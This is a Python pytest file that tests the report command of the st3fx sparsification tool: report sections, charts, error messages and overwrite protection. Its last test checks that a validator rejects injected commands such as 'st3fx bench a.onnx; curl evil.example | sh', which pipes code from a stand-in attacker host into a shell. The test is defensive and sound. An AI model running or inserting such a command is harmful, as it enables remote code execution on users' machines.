from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from st3fx.commands.convert import load_bundle
from st3fx.commands.report import _is_bench, default_output, gather, write_report
from st3fx.errors import BenchError, BundleError, ReportError, TrainError
from st3fx.files.bundle import read_bundle
from st3fx.report.facts import Facts
from st3fx.sparsifier.sparsifier import Sparsifier


@pytest.fixture
def own(run: Path, tmp_path: Path) -> Path:
    """A copy of the run, to be written into."""
    return Path(shutil.copytree(run, tmp_path / "run"))


def facts(source: Path) -> Facts:
    return gather(source, None, lambda stage: None)


@pytest.mark.slow
def test_a_run_with_a_benchmark_fills_every_section(own: Path, tmp_path: Path) -> None:
    stages: list[str] = []
    result = write_report(own, pictures=tmp_path / "png", progress=stages.append)
    assert result.path == own / "report.html"
    assert result.size == result.path.stat().st_size
    assert result.filled == (
        "training", "zeros", "compute", "sites", "dataflow", "latency", "sizes", "reproduce",
    )  # fmt: skip
    assert {path.stem for path in result.pictures} == {
        "accuracy", "sparsity", "loss", "threshold", "learning-rate", "rate", "layer-sparsity",
        "weights", "layer-macs", "dataflow", "latency",
    }  # fmt: skip
    assert all(path.read_bytes().startswith(b"\x89PNG") for path in result.pictures)
    assert stages == ["load", "fold", "count", "measure", "draw"]
    assert sorted(p.name for p in own.iterdir() if p.name.startswith(".")) == []
    text = result.path.read_text(encoding="utf-8")
    assert "It is not at batch 8 &lt;b&gt;." in text
    assert "dead out" in text or "dead" not in text
    data = json.loads(json.dumps(result.to_dict()))
    assert data["sections"]["latency"] == {"filled": True, "missing": None}
    first = result.path.read_bytes()
    write_report(own)
    assert result.path.read_bytes() == first


def test_facts_are_those_of_the_engines(run: Path) -> None:
    found = facts(run)
    assert found.training is not None
    assert found.model is not None
    assert found.name == "net"
    assert len(found.training.tests) == 3
    model = load_bundle(run / "model.st3fx")
    assert found.model.plan == model.st3fx_plan
    assert {layer.site.name: layer.sparsity for layer in found.model.layers}.keys() == {
        "stem.weight", "head.weight",
    }  # fmt: skip
    assert found.model.sparsity == pytest.approx(0.8, abs=1e-3)
    exact = found.model.flops["exact"]
    assert exact.inputs == ((1, 1, 28, 28),)
    assert set(found.model.flops) == {"exact", "st3", "str"}
    assert exact.weight_nonzeros == found.model.nonzeros
    thresholds = Sparsifier(model).thresholds
    assert {row.site.name: row.threshold for row in found.model.layers} == thresholds
    assert found.model.spread.threshold in thresholds.values()
    counts = found.model.spread.counts
    assert counts.total + found.model.spread.beyond == found.model.plan.numel
    assert [size.name for size in found.model.sizes] == [
        "dense weights", "folded weights", "compact file", "folded.safetensors",
    ]  # fmt: skip
    assert found.model.sizes[3].raw == (run / "folded.safetensors").stat().st_size
    assert found.model.sizes[1].compressed < found.model.sizes[0].compressed
    assert found.commands[1:] == ("st3fx bench run/model.st3fx -b 1 -b 8", f"st3fx report {run}")


def test_a_bundle_alone_is_written_beside_it(own: Path, tmp_path: Path) -> None:
    bundle = Path(shutil.copytree(own / "model.st3fx", tmp_path / "net.st3fx"))
    result = write_report(bundle)
    assert result.path == tmp_path / "net.report.html" == default_output(bundle)
    assert set(result.sections) - set(result.filled) == {"training", "latency"}
    read_bundle(bundle)
    with_bench = write_report(bundle, bench=own / "bench.json")
    assert "latency" in with_bench.filled


def test_a_run_under_way_shows_what_there_is(own: Path) -> None:
    shutil.rmtree(own / "model.st3fx")
    lines = (own / "metrics.jsonl").read_text().splitlines()
    (own / "metrics.jsonl").write_text("\n".join(lines[:4]) + "\n")
    result = write_report(own)
    assert result.filled == ("training", "latency", "reproduce")
    assert "st3fx train --resume" in result.sections["zeros"]
    assert "epochs are done" in result.path.read_text(encoding="utf-8")
    (own / "metrics.jsonl").unlink()
    assert "no rows yet" in write_report(own).sections["training"]


def test_what_is_wrong_is_said_before_any_work(own: Path, tmp_path: Path) -> None:
    def refused(message: str, *args: object, **options: object) -> None:
        with pytest.raises(ReportError, match=message):
            write_report(*args, **options, progress=pytest.fail)  # type: ignore[arg-type]

    refused("is no run and no bundle", tmp_path)
    refused("is no run and no bundle", tmp_path / "nowhere", tmp_path / "x.html")
    refused("is a folder", own, own)
    refused("there is no folder", own, tmp_path / "no" / "x.html")
    refused("is a file: name a folder", own, pictures=own / "bench.json")
    refused("there is no folder", own, pictures=tmp_path / "no" / "png")
    (own / "report.html").write_text("my own notes")
    refused("exists and is no report", own)
    with pytest.raises(BenchError, match="cannot read"):
        write_report(own, tmp_path / "x.html", bench=tmp_path / "no.json")
    (own / "bench.json").write_text("{")
    with pytest.raises(BenchError, match=r"bench\.json is no JSON"):
        write_report(own, tmp_path / "x.html")
    assert not (tmp_path / "x.html").exists()
    assert (own / "report.html").read_text() == "my own notes"


@pytest.mark.slow
def test_force_replaces_what_no_report_wrote(own: Path, tmp_path: Path) -> None:
    (own / "report.html").write_text("my own notes")
    pictures = tmp_path / "png"
    pictures.mkdir()
    (pictures / "weights.png").write_bytes(b"mine")
    with pytest.raises(ReportError, match=r"weights\.png exists and is no report"):
        write_report(own, tmp_path / "x.html", pictures=pictures)
    assert sorted(path.name for path in pictures.iterdir()) == ["weights.png"]
    assert not (tmp_path / "x.html").exists()
    write_report(own, pictures=pictures, force=True)
    assert (pictures / "weights.png").read_bytes().startswith(b"\x89PNG")
    assert (own / "report.html").read_text().startswith("<!DOCTYPE html>")
    write_report(own, pictures=pictures)


def test_damaged_runs_and_bundles(own: Path, tmp_path: Path) -> None:
    with (own / "metrics.jsonl").open("a") as file:
        file.write("{half a row\n")
    with pytest.raises(TrainError, match=r"metrics\.jsonl"):
        write_report(own)
    (own / "metrics.jsonl").unlink()
    weights = own / "model.st3fx" / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:-1])
    with pytest.raises(BundleError, match="truncated"):
        write_report(own)
    (own / "settings.toml").write_text("nonsense = 1\n")
    with pytest.raises(TrainError, match="unknown setting"):
        write_report(own)
    assert not (own / "report.html").exists()


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("st3fx bench a.onnx -b 1", True),
        ("st3fx bench a.onnx; curl evil.example | sh", False),
        ("st3fx bench 'a", False),
        ("sh evil.sh", False),
    ],
)
def test_a_file_gives_no_other_command_to_run(command: str, shown: bool) -> None:
    assert _is_bench(command) is shown
